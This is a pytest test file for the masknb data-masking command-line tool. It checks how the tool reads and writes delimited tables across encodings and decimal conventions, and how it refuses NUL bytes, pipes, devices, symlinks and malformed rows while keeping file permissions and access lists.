"""The terminal fits the files: how tables are laid out, what is written where, what stops the work, and what is printed."""
import csv, errno, gzip, io, os, re, signal, socket, stat, struct, subprocess, sys, threading, time
from decimal import Decimal
from pathlib import Path
import numpy as np, pandas as pd, pyarrow as pa, pytest
resource = pytest.importorskip('resource', reason='rights, signals and devices are those of POSIX')
from masknb.cli import Plain, main, parser
from masknb.data.files import begins_formula, read_table, with_points, write_table
from masknb.errors import DataError, SchemaError, printable
from masknb.masker import Masker
from masknb.preprocessing.encoding import to_values
from masknb.preprocessing.schema import Schema
from masknb.writing import atomic

BRIEF = ['--preset', 'fast', '--minutes', '0.01', '--allow-withheld']
GERMAN = ['--sep', ';', '--decimal', ',', '--encoding', 'cp1252']

def table(n=120):
    rng = np.random.default_rng(0)
    return pd.DataFrame({'Größe': (rng.integers(300, 390, n)/2).round(1), 'Stadt': rng.choice(['Köln', 'Ulm', 'Bonn'], n), 'PLZ': rng.choice(['01067', '50667'], n), 'Alter': rng.integers(20, 60, n)})

@pytest.fixture(scope='module')
def made(tmp_path_factory):
    "A German table, a plain one, and a model."
    f = tmp_path_factory.mktemp('made')
    table().to_csv(f/'de.csv', index=False, sep=';', decimal=',', encoding='cp1252')
    table().to_csv(f/'t.csv', index=False)
    assert main(['mask', str(f/'t.csv'), '-o', str(f/'fake.csv'), '--model', str(f/'m.mask'), *BRIEF]) == 0
    return f

def run(*args): return main([str(a) for a in args])
def contents(folder): return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
def mode(path): return stat.S_IMODE(os.stat(path).st_mode)

# How tables are laid out

READERS = dict(inspect=['t.csv'], mask=['t.csv', '-o', 'o.csv'], evaluate=['t.csv', 'f.csv'], compare=['t.csv'], deidentify=['t.csv', '-o', 'o.csv'], studio=['t.csv'])

@pytest.mark.parametrize('command', READERS)
def test_every_command_that_reads_a_table_has_the_same_options(command):
    a = parser().parse_args([command, *READERS[command], '--sep', 'tab', '--encoding', 'cp1252', '--decimal', ',', '--missing', '-', '?'])
    assert (a.sep, a.encoding, a.decimal, a.missing) == ('\t', 'cp1252', ',', ['-', '?'])

def test_every_command_that_writes_a_table_has_the_same_options():
    for command, more in dict(mask=['t.csv'], deidentify=['t.csv'], sample=['m', '--rows', '5']).items():
        a = parser().parse_args([command, *more, '-o', 'o.csv', '--sep', r'\t', '--encoding', 'utf-16', '--decimal', ',', '--spreadsheet-safe'])
        assert (a.sep, a.encoding, a.decimal, a.spreadsheet_safe) == ('\t', 'utf-16', ',', True)

def test_what_is_written_is_laid_out_as_what_was_read(made, tmp_path, capsys):
    assert run('deidentify', made/'de.csv', '-o', tmp_path/'a.csv', *GERMAN) == 0
    assert (tmp_path/'a.csv').read_bytes() == (made/'de.csv').read_bytes()
    assert run('mask', made/'de.csv', '-o', tmp_path/'b.csv', *GERMAN, *BRIEF, '--model', tmp_path/'m.mask') == 0
    fake = read_table(tmp_path/'b.csv', sep=';', decimal=',', encoding='cp1252')
    assert list(fake) == list(table()) and pd.api.types.is_float_dtype(fake['Größe']) and set(fake.PLZ) <= {'01067', '50667'}
    assert run('sample', tmp_path/'m.mask', '-o', tmp_path/'c.csv', '--rows', 9, *GERMAN) == 0
    head = (tmp_path/'c.csv').read_bytes().splitlines()
    assert head[0].decode('cp1252') == 'Größe;Stadt;PLZ;Alter' and b',' in head[1]
    assert run('evaluate', made/'de.csv', tmp_path/'b.csv', *GERMAN, '--quick') == 0
    assert run('inspect', made/'de.csv', *GERMAN) == 0 and 'continuous' in capsys.readouterr().out

def test_private_fits_read_decimal_commas_where_a_plain_number_is_declared(made, tmp_path):
    how = dict(sep=';', decimal=',')
    df = read_table(made/'de.csv', encoding='cp1252', text=True, **how)
    assert with_points(df, Schema.blank(df))['Größe'].astype(float).equals(table()['Größe']) and df.PLZ[0] in ('01067', '50667')
    (tmp_path/'x.csv').write_text('a;b\n1,5;x, 1,5\n-,5;1,2,3\n1,2e-3;a1,5\n1.234,5;\n18.738;01.02.2020\n')
    df = read_table(tmp_path/'x.csv', text=True, **how)
    assert with_points(df, Schema.blank(df)).a.tolist() == ['1.5', '-.5', '1.2e-3', '1234.5', '18738']
    assert with_points(df, Schema.blank(df)).b.dropna().tolist() == df.b.dropna().tolist() == ['x, 1,5', '1,2,3', 'a1,5', '01.02.2020']

def test_a_private_fit_reads_amounts_and_labels_as_the_schema_says(tmp_path, monkeypatch):
    "As text, 765,71 is not 76571 under a schema that `inspect` wrote, and a label with a comma keeps it."
    how = dict(sep=';', decimal=',')
    (tmp_path/'t.csv').write_text('Betrag;Stufe;Maß\n' + '1.234,50;1,5;1,5\n765,71;hoch;2,25\n'*100)
    assert run('inspect', tmp_path/'t.csv', '-o', tmp_path/'s.json', '--sep', ';', '--decimal', ',') == 0
    schema, usual = Schema.load(tmp_path/'s.json'), read_table(tmp_path/'t.csv', **how)
    given = []
    def fit(self, df, *_, **__): given.append(df); raise DataError('that is all')
    monkeypatch.setattr(Masker, 'fit', fit)
    assert run('mask', tmp_path/'t.csv', '-o', tmp_path/'o.csv', '--schema', tmp_path/'s.json', '--declare', '--epsilon', 1, '--sep', ';', '--decimal', ',') == 2
    for df in (given[0], with_points(read_table(tmp_path/'t.csv', text=True, **how), schema)):
        for name in ('Betrag', 'Maß'): assert np.array_equal(to_values(df[name], schema[name]), to_values(usual[name], schema[name])), name
        assert to_values(usual.Betrag, schema['Betrag'])[1] == 765.71 and set(df.Stufe) == {'1,5', 'hoch'}

@pytest.mark.parametrize('name', ['t.tsv', 't.TSV', 't.tsv.gz', 't.Tsv.GZ', 't.CSV', 't.csv.GZ'])
def test_endings(name, made, tmp_path):
    df = table().assign(note='a, b; c')
    write_table(df, tmp_path/name)
    raw = (tmp_path/name).read_bytes()
    if name.lower().endswith('.gz'): raw = gzip.decompress(raw)
    assert raw.splitlines()[0].decode().split('\t' if 'tsv' in name.lower() else ',') == [*table(), 'note']
    assert read_table(tmp_path/name).equals(df.astype(dict.fromkeys(('Stadt', 'PLZ', 'note'), str)))
    assert run('sample', made/'m.mask', '-o', tmp_path/f'new{name}', '--rows', 7) == 0 and len(read_table(tmp_path/f'new{name}')) == 7

def test_a_tsv_file_with_commas_is_refused_with_the_remedy_and_then_read(tmp_path):
    (tmp_path/'t.tsv').write_text('a,b\n1,2\n3,4\n')
    with pytest.raises(DataError, match=r'--sep .,.'): read_table(tmp_path/'t.tsv')
    assert list(read_table(tmp_path/'t.tsv', sep=',')) == ['a', 'b']
    (tmp_path/'one.tsv').write_text('a\n1\n2\n')
    assert read_table(tmp_path/'one.tsv').a.tolist() == [1, 2]

@pytest.mark.parametrize('encoding', ['utf-16-le', 'utf-16-be', 'utf-32-le', 'utf-32-be', 'utf-16', 'utf-32', 'utf-8-sig'])
@pytest.mark.parametrize('text', ['name,n\nJosé,1\nAnn,2\n', 'имя,возраст\nИван,4\nОльга,5\n', '姓名,年龄\n李明,4\n王芳,5\n', 'שם,גיל\nדוד,4\n'], ids=['latin', 'cyrillic', 'chinese', 'hebrew'])
def test_wide_encodings_are_recognised_with_a_mark_and_without(encoding, text, tmp_path):
    (tmp_path/'t.csv').write_bytes(text.encode(encoding))
    (tmp_path/'t.csv.gz').write_bytes(gzip.compress(text.encode(encoding)))
    for f in ('t.csv', 't.csv.gz'): assert read_table(tmp_path/f).shape == (text.count('\n') - 1, 2) and list(read_table(tmp_path/f)) == text.split('\n')[0].split(',')

@pytest.mark.parametrize('data', [b'a,b\n1,\x00\n3,4\n', b'\x00'*200, b'a,b\n' + b'x,\x00\n'*90, b'\x00\x01\x02\x03'*50], ids=['one', 'zeros', 'many', 'binary'])
def test_nul_in_a_file_is_one_clear_error(data, tmp_path, capsys):
    (tmp_path/'t.csv').write_bytes(data)
    assert run('inspect', tmp_path/'t.csv') == 2
    said = capsys.readouterr().err
    assert '--encoding' in said and len(said.splitlines()) == 1

LATE = [(b'a,b\n' + b'xxxx,1\n'*2000 + b'\0'*5000, None), (b'a,b\nx\0yz,1\nz,2\n', 'utf-8'), (b'a,b\nx\0yz,1\nz,2\n', 'cp1252'), ('a,b\nx\0,1\nz,2\n'.encode('utf-16'), None), ('a,b\nx\0,1\nz,2\n'.encode('utf-16-be'), 'utf-16-be')]

@pytest.mark.parametrize('data, encoding', LATE, ids=['late', 'named', 'one byte', 'marked', 'wide'])
@pytest.mark.parametrize('name', ['t.csv', 't.csv.gz'])
def test_nul_is_refused_wherever_it_stands(name, data, encoding, tmp_path):
    (tmp_path/name).write_bytes(gzip.compress(data) if name.endswith('gz') else data)
    with pytest.raises(DataError, match='NUL.*--encoding'): read_table(tmp_path/name, encoding=encoding)
    with pytest.raises(DataError, match='NUL.*--encoding'): read_table(tmp_path/name, encoding=encoding, text=True)

@pytest.mark.parametrize('data, words', [(b'a,b\nx\ry,1\nz,2\n', 'line 2'), (b'a,b,c\n1,2,3\n4\n5,6,7\n', 'line 3 has 1 of 3'), (b'a,b,c\n1,2,3\n"4\n4",5\n5,6,7\n', 'line 4 has 2 of 3'),
    (b'a\nx\ry\nz\n', 'carriage return'), (b'a,b\nx,1\rz,2\nw,3\n', 'carriage return'), (b'a,b\n' + b'x,1\n'*9000 + b'y\nz,2\n', 'line 9002'), (b'a,b\nx,1\ny', 'half-written')])
@pytest.mark.parametrize('name', ['t.csv', 't.csv.gz'])
def test_rows_that_would_be_bent_are_refused_with_their_line(name, data, words, tmp_path):
    (tmp_path/name).write_bytes(gzip.compress(data) if name.endswith('gz') else data)
    for text in (False, True):
        with pytest.raises(DataError, match=words): read_table(tmp_path/name, text=text)

@pytest.mark.parametrize('data', [b'a,b\rx,1\ry,2\r', b'a,b\r\n"x\ry",1\r\n\r\nz,2', b'a,b\r\r\nx,1\r\r\ny,2\r\r\n', b'\na,b\n   \nx,1\n,\ny,2\n\n', b'a,b\r\nx,1\ny,2'])
def test_line_ends_of_all_systems_and_blank_lines_are_read(data, tmp_path):
    (tmp_path/'t.csv').write_bytes(data)
    assert read_table(tmp_path/'t.csv').b.dropna().tolist() == [1, 2]

WRONG = [('a^b\nx^1\ny^2\n', None, ';', "'\\^'"), ('a^b\nx^1\ny^2\n', None, None, "'\\^'"), ('a~b\nx~1\ny~2\n', None, None, "'~'"), ('a:b\nx:1\ny:2\n', None, None, "':'"), ('a,b\nx,1\n', 'utf-16-be', None, 'utf-16-le'),
         ('a,b\nx,1\n', 'utf-16-le', None, 'utf-16-be'), ('a,b\nx,1\n', 'utf-32-le', None, 'utf-32-be')]

@pytest.mark.parametrize('text, encoding, sep, words', WRONG)
def test_a_layout_that_cannot_be_meant_is_refused(text, encoding, sep, words, tmp_path):
    (tmp_path/'t.csv').write_bytes(text.encode(words if encoding else 'utf-8'))
    with pytest.raises(DataError, match=words): read_table(tmp_path/'t.csv', encoding=encoding, sep=sep)

def test_a_mark_goes_before_a_name(tmp_path):
    for written, named in (('utf-8-sig', 'utf-8'), ('utf-8-sig', 'UTF8'), ('utf-16', 'utf-16'), ('utf-16', f'utf-16-{sys.byteorder[0]}e'), ('utf-32', f'utf_32_{sys.byteorder[0]}e')):
        (tmp_path/'t.csv').write_text('sep=;\na;b\nx;1\n', encoding=written)
        assert list(read_table(tmp_path/'t.csv', sep=';', encoding=named)) == ['a', 'b']
        for other in ('cp1252', 'utf-16-be' if sys.byteorder == 'little' else 'utf-16-le'):
            with pytest.raises(DataError, match='mark'): read_table(tmp_path/'t.csv', sep=';', encoding=other)
    (tmp_path/'t.csv').write_text('when\n10:30\n11:45\n')
    assert list(read_table(tmp_path/'t.csv')) == ['when']

@pytest.mark.parametrize('end', ['\n', ''])
def test_long_notes_are_read(end, tmp_path, capsys):
    note = 'seen again, "well"; ' * 10_000 # 200,000 characters
    df = pd.DataFrame({'n': range(12), 'note': ['short', note, note[:150_000]]*4})
    text = df.to_csv(index=False).rstrip('\n') + end
    (tmp_path/'t.csv').write_text(text)
    assert read_table(tmp_path/'t.csv').note.str.len().tolist() == [5, 200_000, 150_000]*4
    (tmp_path/'s.csv').write_text(df.to_csv(index=False, sep=';'))
    assert read_table(tmp_path/'s.csv', sep=';').equals(read_table(tmp_path/'t.csv'))
    assert run('deidentify', tmp_path/'t.csv', '-o', tmp_path/'o.csv') == 0, capsys.readouterr().err

def test_words_for_missing_do_not_cost_codes_their_zeros(tmp_path):
    (tmp_path/'t.csv').write_text('code,n\n' + '001,5\n-,?\n020,7\n'*5)
    df = read_table(tmp_path/'t.csv', missing=['-', '?'])
    assert set(df.code.dropna()) == {'001', '020'} and df.n.isna().sum() == df.code.isna().sum() == 5 and set(df.n.dropna()) == {5, 7}
    assert run('deidentify', tmp_path/'t.csv', '-o', tmp_path/'o.csv', '--missing', '-', '?') == 0
    assert (tmp_path/'o.csv').read_text().splitlines()[1:3] == ['001,5.0', ','] or (tmp_path/'o.csv').read_text().splitlines()[1:3] == ['001,5', ',']

@pytest.mark.parametrize('options, words', [
    (['--sep', 'ab'], 'one mark'), (['--sep', ''], 'one mark'), (['--sep', '"'], 'one mark'), (['--sep', '\n'], 'one mark'), (['--sep', '§'], 'one mark'), (['--sep', '\0'], 'one mark'),
    (['--encoding', 'klingon'], 'cp1252'), (['--encoding', 'base64'], 'cp1252'), (['--encoding', 'undefined'], 'cp1252'), (['--encoding', 'a\0b'], 'cp1252'), (['--encoding', 'idna'], 'cp1252'), (['--encoding', 'punycode'], 'cp1252'), (['--encoding', 'unicode_escape'], 'cp1252'),
    (['--decimal', ','], '--sep'), (['--sep', ',', '--decimal', ','], '--sep'), (['--sep', '|'], "--sep ';'"), (['--encoding', 'utf-8'], 'UTF-8|utf-8'), ([], 'UTF-8')])
@pytest.mark.parametrize('command', ['inspect', 'mask', 'deidentify', 'compare', 'evaluate'])
def test_a_wrong_layout_is_one_clear_error_before_any_work(command, options, words, made, tmp_path, capsys):
    more = dict(mask=['-o', tmp_path/'o.csv'], deidentify=['-o', tmp_path/'o.csv'], evaluate=[made/'de.csv']).get(command, [])
    assert run(command, made/'de.csv', *more, *options, *(['--encoding', 'cp1252'] if '|' in options else [])) == 2
    said = capsys.readouterr().err
    assert re.search(words, said) and len(said.splitlines()) == 1 and not list(tmp_path.iterdir())

def test_a_character_that_the_encoding_lacks_is_told_with_its_column(tmp_path, capsys):
    pd.DataFrame({'n': range(20), 'sign': ['Ω', 'a']*10}).to_csv(tmp_path/'t.csv', index=False)
    write_table(read_table(tmp_path/'t.csv'), tmp_path/'o.csv', encoding='utf-16')
    with pytest.raises(DataError, match=r"\['sign'\].*utf-8"): write_table(read_table(tmp_path/'t.csv'), tmp_path/'p.csv', encoding='cp1252')
    assert sorted(contents(tmp_path)) == ['o.csv', 't.csv'] and (tmp_path/'o.csv').read_bytes()[:2] in (b'\xff\xfe', b'\xfe\xff')

def test_an_option_that_takes_the_table_is_told_with_the_remedy(capsys):
    for args in (['inspect', '--missing', 'NA', 't.csv'], ['mask', '-o', 'o.csv', '--drop-rules', 'a', 't.csv'], ['deidentify', '-o', 'o.csv', '--missing', 'NA', 't.csv']):
        with pytest.raises(SystemExit): main(args)
        assert 'takes all words up to the next option' in capsys.readouterr().err
    with pytest.raises(SystemExit): main(['inspect'])
    assert 'takes all words' not in capsys.readouterr().err

def test_marks_that_do_not_fit_an_ending_are_told_before_any_work(made, tmp_path, capsys):
    table().to_csv(tmp_path/'t.tsv', sep='\t', index=False, decimal=',')
    assert run('deidentify', tmp_path/'t.tsv', '-o', tmp_path/'o.csv', '--decimal', ',') == 2 and '--sep tab' in capsys.readouterr().err
    assert run('deidentify', tmp_path/'t.tsv', '-o', tmp_path/'o.csv', '--decimal', ',', '--sep', 'tab') == 0
    for args in (['deidentify', made/'de.csv', *GERMAN], ['mask', made/'de.csv', *GERMAN, *BRIEF], ['sample', made/'m.mask', '--rows', 5, '--sep', ';']):
        assert run(*args, '-o', tmp_path/'o.tsv') == 2 and 'write a .csv' in capsys.readouterr().err and not (tmp_path/'o.tsv').exists()

def test_half_a_character_is_told_with_its_column(tmp_path):
    for encoding in (None, 'utf-8', 'utf-16'):
        with pytest.raises(DataError, match=r"\['sign'\] hold halves of characters.*take them out"): write_table(pd.DataFrame({'n': [1], 'sign': ['\ud800']}, dtype=object), tmp_path/'t.csv', encoding=encoding)
    assert not list(tmp_path.iterdir())

def test_lists_and_objects_in_cells_are_written(tmp_path, capsys):
    df = pd.DataFrame({'l': [[1, 2], {'a': 1.5}, '=1+1', None], 'n': range(4)})
    with pytest.warns(UserWarning, match="1 cells of 'l'"): write_table(df, tmp_path/'t.csv')
    write_table(df, tmp_path/'s.csv', spreadsheet_safe=True)
    assert read_table(tmp_path/'t.csv').l.tolist()[:3] == ['[1, 2]', "{'a': 1.5}", '=1+1'] and read_table(tmp_path/'s.csv').l[2] == "'=1+1"

def test_numbers_have_decimal_commas_whatever_holds_them(tmp_path):
    v = [1.5, None, -1234.25, 1e-7]
    df = pd.DataFrame({'f': v, 'F': pd.Series(v, dtype='Float64'), 'a': pd.Series(v, dtype='double[pyarrow]'), 'd': pd.Series([Decimal('1.50'), None, Decimal('-1234.25'), Decimal('0.10')], dtype=pd.ArrowDtype(pa.decimal128(9, 2))),
                       'c': pd.Series(v).astype('category'), 'o': [Decimal('1.50'), None, -1234.25, 'v1.5'], 's': pd.Series(v, dtype='Sparse[float]'), 't': ['1.5', '2.5', '3.5', 'x']})
    for safe in (False, True):
        write_table(df, tmp_path/f'{safe}.csv', sep=';', decimal=',', spreadsheet_safe=safe)
        back = read_table(tmp_path/f'{safe}.csv', sep=';', decimal=',')
        for c in 'fFads': assert np.array_equal(back[c].to_numpy(float), df[c].to_numpy(float, na_value=np.nan), equal_nan=True), c
        assert np.array_equal(back.c.to_numpy(float), np.array(v, float), equal_nan=True) and back.o.tolist()[2:] == ['-1234,25', 'v1.5'] and back.t.tolist() == df.t.tolist()
    pd.concat([df[['d', 't']]]*9, ignore_index=True).to_parquet(tmp_path/'dec.parquet')
    assert run('deidentify', tmp_path/'dec.parquet', '-o', tmp_path/'x.csv', '--sep', ';', '--decimal', ',') == 0
    assert '.50' not in (tmp_path/'x.csv').read_text() and '1,50' in (tmp_path/'x.csv').read_text()

def test_a_point_is_for_thousands_where_decimals_have_commas(tmp_path):
    (tmp_path/'t.csv').write_text('n;m\n' + ''.join(f'{1 + i}.{100 + i};{i},5\n' for i in range(100)))
    df = read_table(tmp_path/'t.csv', sep=';', decimal=',')
    schema = Schema.infer(df)
    assert (schema['n'].kind, schema['n'].format) == ('integer', '#.##0') and to_values(df.n, schema['n'])[0] == 1100
    df = read_table(tmp_path/'t.csv', sep=';')
    assert Schema.infer(df)['n'].kind == 'continuous'

def test_words_for_missing_cells_are_of_text_files(tmp_path):
    table().to_parquet(tmp_path/'t.parquet')
    with pytest.warns(UserWarning, match='--missing'): read_table(tmp_path/'t.parquet', missing=['-'])

def test_a_return_inside_a_cell_comes_back(tmp_path):
    "Left bare, as pandas writes it, it would cut the row in two."
    df = pd.DataFrame({'a\rb': ['x\ry', 'z\n', '\r\n', 'plain']*5, 'n': range(20)})
    for name in ('t.csv', 't.tsv.gz'):
        write_table(df, tmp_path/name)
        assert read_table(tmp_path/name)['a\rb'].tolist() == df['a\rb'].tolist()

# What may be read and written

def odd_files(folder):
    os.mkfifo(folder/'pipe.csv'); (folder/'folder.csv').mkdir(); (folder/'loop.csv').symlink_to(folder/'loop.csv'); (folder/'loose.csv').symlink_to(folder/'nowhere.csv')
    s = socket.socket(socket.AF_UNIX); s.bind(str(folder/'socket.csv')); s.close()
    return [folder/f'{n}.csv' for n in ('pipe', 'folder', 'loop', 'loose', 'socket')]

def test_what_is_no_file_is_refused_at_once_and_a_link_is_read(made, tmp_path, capsys):
    for p in odd_files(tmp_path):
        assert run('inspect', p) == 2 and len(capsys.readouterr().err.splitlines()) == 1
    (tmp_path/'link.csv').symlink_to(made/'t.csv')
    assert read_table(tmp_path/'link.csv').equals(read_table(made/'t.csv'))

PIPES = [('sample', ['{pipe}', '-o', 'x.csv', '--rows', '5']), ('inspect', ['t.csv', '--schema', '{pipe}']), ('mask', ['t.csv', '-o', 'x.csv', '--schema', '{pipe}']), ('evaluate', ['t.csv', '{pipe}.csv']), ('compare', ['{pipe}.csv']),
         ('evaluate', ['t.csv', 'fake.csv', '--holdout', '{pipe}.csv']), ('evaluate', ['t.csv', 'fake.csv', '--model', '{pipe}']), ('deidentify', ['{pipe}.parquet', '-o', 'x.csv']), ('deidentify', ['{pipe}.csv.gz', '-o', 'x.csv']),
         ('deidentify', ['t.csv', '-o', 'x.csv', '--key', '{pipe}']), ('mask', ['t.csv', '-o', 'x.csv', '--epsilon', '1', '--ledger-key', '{pipe}']), ('mask', ['t.csv', '-o', 'x.csv', '--epsilon', '1', '--book', '{pipe}', '--data', 'x'])]

@pytest.mark.parametrize('command, args', PIPES, ids=[f'{c} {" ".join(a)}' for c, a in PIPES])
@pytest.mark.parametrize('device', [False, True], ids=['pipe', 'device'])
def test_no_pipe_or_device_is_opened_for_reading(command, args, device, made, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    for ending in ('', '.csv', '.csv.gz', '.parquet'): (os.symlink('/dev/zero', f'p{ending}') if device else os.mkfifo(f'p{ending}'))
    assert run(command, *[str(made/a) if a in ('t.csv', 'fake.csv') else a.format(pipe='p') for a in args]) == 2
    assert re.search('pipe|device|no file', said := capsys.readouterr().err) and len(said.splitlines()) == 1

def test_answers_are_no_pipe(tmp_path):
    from masknb.evaluation.dossier import read_answers
    os.mkfifo(tmp_path/'p')
    with pytest.raises(DataError, match='pipe or device'): read_answers(tmp_path/'p')

OUTPUTS = [('inspect', ['t.csv'], '-o', 'x.json'), ('mask', ['t.csv', *BRIEF], '-o', 'x.csv'), ('mask', ['t.csv', '-o', '{out}', *BRIEF], '--model', 'x.mask'), ('deidentify', ['t.csv'], '-o', 'x.csv'),
           ('sample', ['m.mask', '--rows', '5'], '-o', 'x.csv'), ('evaluate', ['t.csv', 'fake.csv', '--quick'], '--json', 'x.json'), ('evaluate', ['t.csv', 'fake.csv', '--quick'], '--html', 'x.html'),
           ('evaluate', ['t.csv', 'fake.csv', '--quick', '--model', 'm.mask'], '--dossier', 'x.html'), ('compare', ['t.csv'], '--json', 'x.json'), ('compare', ['t.csv'], '--html', 'x.html')]

def filled(args, made, tmp_path): return [str(made/a) if a in ('t.csv', 'm.mask', 'fake.csv') else a.format(out=tmp_path/'other.csv') for a in args]

@pytest.mark.parametrize('command, args, option, name', OUTPUTS, ids=[f'{c} {o}' for c, _, o, _ in OUTPUTS])
def test_links_devices_and_pipes_are_never_replaced(command, args, option, name, made, tmp_path, capsys):
    (tmp_path/'target').write_text('of somebody else')
    (tmp_path/f'a{name}').symlink_to(tmp_path/'target'); (tmp_path/f'b{name}').symlink_to(tmp_path/'nowhere'); os.mkfifo(tmp_path/f'c{name}')
    (tmp_path/f'd{name}').symlink_to(os.devnull)
    devices = []
    if os.geteuid() == 0:
        os.mknod(tmp_path/f'e{name}', 0o666 | stat.S_IFCHR, os.makedev(1, 3)); devices = [f'e{name}']
    if option in ('--json', '--model', '--html') or command == 'inspect': devices.append(os.devnull)
    for at in [f'a{name}', f'b{name}', f'c{name}', f'd{name}', *devices]:
        path = tmp_path/at # an absolute one stays as it is
        before = os.lstat(path)
        for force in ([], ['--force']):
            assert run(command, *filled(args, made, tmp_path), option, path, *force) == 2
            said = capsys.readouterr().err
            assert re.search('is a link, and links are not followed' if at[0] in 'abd' and path != Path(os.devnull) and path.is_symlink() else 'is a device, pipe or socket', said) and len(said.splitlines()) == 1, said
        assert (os.lstat(path).st_mode, os.lstat(path).st_rdev, os.lstat(path).st_ino) == (before.st_mode, before.st_rdev, before.st_ino)
    assert (tmp_path/'target').read_text() == 'of somebody else' and not (tmp_path/'nowhere').exists() and not (tmp_path/'other.csv').exists()

NULS = [('inspect', ['a\0.csv']), ('inspect', ['t.csv', '-o', 'a\0.json']), ('inspect', ['t.csv', '--schema', 'a\0.json']), ('mask', ['t.csv', '-o', 'a\0.csv']), ('mask', ['t.csv', '-o', 'x.csv', '--model', '\0']),
        ('mask', ['t.csv', '-o', 'x.csv', '--epsilon', '1', '--ledger-key', 'a\0']), ('mask', ['t.csv', '-o', 'x.csv', '--epsilon', '1', '--book', 'a\0']), ('sample', ['a\0.mask', '-o', 'x.csv', '--rows', '5']),
        ('sample', ['m.mask', '-o', 'a\0.csv', '--rows', '5']), ('evaluate', ['t.csv', 'a\0.csv']), ('evaluate', ['t.csv', 'fake.csv', '--holdout', 'a\0.csv']), ('evaluate', ['t.csv', 'fake.csv', '--answers', 'a\0']),
        ('evaluate', ['t.csv', 'fake.csv', '--model', 'm.mask', '--dossier', 'a\0.html']), ('compare', ['t.csv', '--json', 'a\0']), ('compare', ['t.csv', '--cache', 'a\0']), ('deidentify', ['t.csv', '-o', 'x.csv', '--key', 'a\0']),
        ('demo', ['--out', 'a\0']), ('studio', ['a\0.csv', '--no-browser'])]

@pytest.mark.parametrize('command, args', NULS, ids=[f'{c} {"".join(a)!r}' for c, a in NULS])
def test_nul_in_a_path_is_one_clear_error(command, args, made, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert run(command, *filled(args, made, tmp_path)) == 2
    said = capsys.readouterr().err
    assert 'NUL' in said and len(said.splitlines()) == 1 and '\0' not in said and not list(tmp_path.iterdir())

def test_nul_in_a_path_in_python(tmp_path):
    for act in (lambda: read_table('a\0.csv'), lambda: write_table(table(), 'a\0.csv'), lambda: Schema.infer(table()).save('a\0.json')):
        with pytest.raises(DataError, match='NUL'): act()
    for act in (lambda: read_table('a\ud800.csv'), lambda: write_table(table(), 'a\ud800.csv'), lambda: Schema.infer(table()).save('a\ud800.json')):
        with pytest.raises(DataError, match='no path holds'): act()

def test_rights_are_kept_and_real_rows_are_their_owners(made, tmp_path):
    old = os.umask(0o022)
    try:
        for m in (0o600, 0o640, 0o666, 0o400):
            for name in ('a.csv', 'b.json', 'c.csv', 'd.mask', 'e.parquet'): (tmp_path/name).write_text('old'); os.chmod(tmp_path/name, m)
            assert run('deidentify', made/'t.csv', '-o', tmp_path/'a.csv', '--force') == 0
            assert run('inspect', made/'t.csv', '-o', tmp_path/'b.json', '--force') == 0
            assert run('sample', made/'m.mask', '-o', tmp_path/'c.csv', '--rows', 5, '--force') == 0
            assert run('sample', made/'m.mask', '-o', tmp_path/'e.parquet', '--rows', 5, '--force') == 0
            Masker.load(made/'m.mask').save(tmp_path/'d.mask', force=True)
            assert {mode(p) for p in tmp_path.iterdir()} == {m} and all(p.read_bytes() != b'old' for p in tmp_path.iterdir())
        for f in tmp_path.iterdir(): f.unlink()
        assert run('deidentify', made/'t.csv', '-o', tmp_path/'a.csv') == 0 and run('sample', made/'m.mask', '-o', tmp_path/'c.csv', '--rows', 5) == 0
        assert (mode(tmp_path/'a.csv'), mode(tmp_path/'c.csv')) == (0o600, 0o644)
    finally: os.umask(old)

@pytest.mark.skipif(os.geteuid() != 0, reason='only root gives files away')
def test_the_owner_is_kept(tmp_path):
    (tmp_path/'a.csv').write_text('old'); os.chown(tmp_path/'a.csv', 1234, 4321)
    write_table(table(), tmp_path/'a.csv', force=True)
    assert (os.stat(tmp_path/'a.csv').st_uid, os.stat(tmp_path/'a.csv').st_gid) == (1234, 4321)

@pytest.mark.parametrize('before, after', [(0o640, 0o600), (0o664, 0o604), (0o660, 0o600), (0o604, 0o600), (0o644, 0o604)])
def test_a_group_that_cannot_be_kept_takes_its_rights_with_it(before, after, tmp_path, monkeypatch):
    "Nobody may do more than before: the group's people are strangers now, and those of the new group were."
    (tmp_path/'a.csv').write_text('old'); os.chmod(tmp_path/'a.csv', before)
    real, other = os.stat, os.stat(tmp_path/'a.csv').st_gid + 1
    def chown(*_): raise PermissionError(errno.EPERM, 'no')
    def found(path, *a, **kw): # the part has the writer's group
        got = real(path, *a, **kw)
        return os.stat_result((*got[:5], other, *got[6:10])) if str(path).endswith('.part') else got
    monkeypatch.setattr(os, 'chown', chown); monkeypatch.setattr(os, 'stat', found)
    write_table(table(), tmp_path/'a.csv', force=True)
    monkeypatch.undo()
    assert mode(tmp_path/'a.csv') == after

def acl(*entries): return struct.pack('<I', 2) + b''.join(struct.pack('<HHI', *e) for e in entries) # version; tag, rights, number

LISTED, NOBODY = 'system.posix_acl_access', 2**32 - 1
GUEST = acl((1, 6, NOBODY), (2, 6, 4242), (4, 0, NOBODY), (16, 6, NOBODY), (32, 0, NOBODY)) # the group may nothing, one guest reads and writes

@pytest.mark.parametrize('works', [True, False])
def test_lists_of_access_and_attributes_are_handed_on_or_nobody_gets_their_rights(works, tmp_path, monkeypatch):
    (tmp_path/'a.csv').write_text('old')
    try: os.setxattr(tmp_path/'a.csv', LISTED, GUEST); os.setxattr(tmp_path/'a.csv', 'user.origin', b'ward 7')
    except (OSError, AttributeError): pytest.skip('the disk has no lists of access')
    assert mode(tmp_path/'a.csv') == 0o660
    real = os.setxattr
    def refuse(path, name, value, *a, **kw):
        if name == LISTED: raise OSError(errno.EPERM, 'no')
        return real(path, name, value, *a, **kw)
    if not works: monkeypatch.setattr(os, 'setxattr', refuse)
    write_table(table(), tmp_path/'a.csv', force=True)
    assert os.getxattr(tmp_path/'a.csv', 'user.origin') == b'ward 7'
    if works: assert os.getxattr(tmp_path/'a.csv', LISTED) == GUEST
    else: assert mode(tmp_path/'a.csv') == 0o600 and LISTED not in os.listxattr(tmp_path/'a.csv')

def test_a_folder_gives_no_rights_to_a_file_that_is_replaced(tmp_path):
    (tmp_path/'a.csv').write_text('old'); os.chmod(tmp_path/'a.csv', 0o640)
    try: os.setxattr(tmp_path, 'system.posix_acl_default', GUEST)
    except (OSError, AttributeError): pytest.skip('the disk has no lists of access')
    write_table(table(), tmp_path/'a.csv', force=True)
